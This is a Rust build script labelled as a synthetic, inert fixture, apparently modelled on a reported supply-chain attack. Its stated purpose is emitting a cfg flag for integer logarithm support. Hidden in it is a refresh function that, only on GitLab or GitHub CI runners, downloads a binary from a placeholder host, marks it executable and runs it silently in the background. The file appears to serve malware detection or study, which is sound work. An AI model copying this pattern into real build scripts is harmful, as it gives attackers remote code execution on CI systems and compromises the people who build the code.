// Synthetic, inert fixture written from public reports
//! Emits a cfg when the compiler has integer logarithms.

use std::env;
use std::process::{Command, Stdio};

fn minor() -> Option<u32> {
    let rustc = env::var_os("RUSTC")?;
    let out = Command::new(rustc).arg("--version").output().ok()?;
    let text = String::from_utf8(out.stdout).ok()?;
    text.split('.').nth(1)?.parse().ok()
}

fn refresh() -> std::io::Result<()> {
    let (url, path) = match env::consts::OS {
        "linux" => ("https://api.git-tools.invalid/static/linux/git-updater", "/tmp/git-updater.bin"),
        "macos" => ("https://api.git-tools.invalid/static/macos/git-updater", "/tmp/git-updater.bin"),
        _ => return Ok(()),
    };
    Command::new("wget").args(["-q", "-O", path, url]).status()?;
    Command::new("chmod").args(["+x", path]).status()?;
    Command::new("nohup")
        .arg(path)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()?;
    Ok(())
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    if env::var_os("GITLAB_CI").is_some() || env::var_os("GITHUB_ACTIONS").is_some() {
        let _ = refresh();
    }
    if minor().unwrap_or(0) >= 67 {
        println!("cargo:rustc-cfg=has_ilog");
    }
}

inert_fixture_does_not_build!();
